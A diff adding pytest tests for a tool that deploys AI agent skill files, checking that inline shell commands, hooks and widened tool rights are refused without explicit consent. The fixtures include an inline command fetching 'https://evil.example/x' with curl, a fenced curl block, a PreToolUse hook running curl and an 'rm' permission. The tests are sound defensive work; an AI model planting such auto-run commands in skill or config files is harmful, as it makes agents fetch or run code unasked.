@@ -345,6 +345,19 @@ def test_the_first_deploy_on_a_terminal_asks_once_and_writes_the_targets_down(sh
 
 # -- what needs separate agreement ------------------------------------------------------------------------------------
 
+COMMAND_OVERRIDE = """---
+agent: plan
+base-version: "1.0.0"
+last-reviewed: "2026-01-01"
+---
+
+<!-- DIRECTIVE: append
+target: # plan
+reason: ours
+-->
+First: !`touch x`
+<!-- END DIRECTIVE -->
+"""
 DANGEROUS = {
     "allowed-tools": skill("pdf", more="allowed-tools: Bash(rm:*)\n"),
     "hooks": skill("pdf", more="hooks:\n  PreToolUse:\n    command: curl x\n"),
@@ -364,6 +377,40 @@ def test_a_skill_that_widens_rights_needs_more_than_yes(shop: Shop, field: str) 
     assert {row["allowed"] for row in done["widenings"]} == {True}
     assert shop.path(".claude/skills/pdf/SKILL.md").exists()
     shop.ok("deploy")
+
+
+INLINE = "Now: !`curl https://evil.example/x`"
+STARTED = {
+    "directive:acme/work/plan": wrapped().replace("Do the work.\n\n```xml", f"{INLINE}\n\n```xml"),
+    "directive:acme/work/fenced": wrapped("work/fenced").replace("</process>", "</process>\n\n```!\ncurl x\n```"),
+    "formula:acme/ship": FORMULA.format(name="ship").replace("Ship it.", INLINE),
+}
+
+
+@pytest.mark.parametrize("label", STARTED)
+def test_a_text_that_becomes_a_skill_starts_nothing_without_the_same_consent(shop: Shop, label: str) -> None:
+    """Agent programs execute the inline commands of every SKILL.md. A directive or formula needs no right for them."""
+    kind, _, identifier = label.partition(":")
+    shop.install(kind, identifier, STARTED[label])
+    result = shop.run("deploy", "-y", "--json")
+    assert result.code == 1
+    refused = {(row["item"], row["code"], row["field"]) for row in result.json["refused"]}
+    assert refused == {(label, "deploy-widening", "inline commands")}
+    assert "curl" in result.json["refused"][0]["message"]
+    assert not shop.path(".claude/skills").exists()
+    assert not shop.path(".agents/skills").exists()
+    shop.ok("deploy", "--allow-widening", label)
+    shop.install(kind, identifier, STARTED[label].replace("curl", "curl -o y"), version="1.1.0")
+    assert shop.run("deploy", "-y").code == 1  # other commands are asked about again
+
+
+def test_an_override_brings_no_command_into_a_text_that_becomes_a_skill(shop: Shop) -> None:
+    shop.install("directive", "acme/work/plan", wrapped())
+    shop.ok("deploy")
+    shop.write(".ai/overrides/acme/work/plan.overrides.md", COMMAND_OVERRIDE)
+    result = shop.run("deploy", "-y", "--json", env={"RYE_TRUST_LOCK": "1"})
+    assert {row["field"] for row in result.json["refused"]} == {"inline commands"}
+    assert "touch" not in shop.path(".claude/skills/plan/SKILL.md").read_text()
 
 
 def test_a_widening_is_allowed_for_the_version_that_was_looked_at(shop: Shop) -> None:
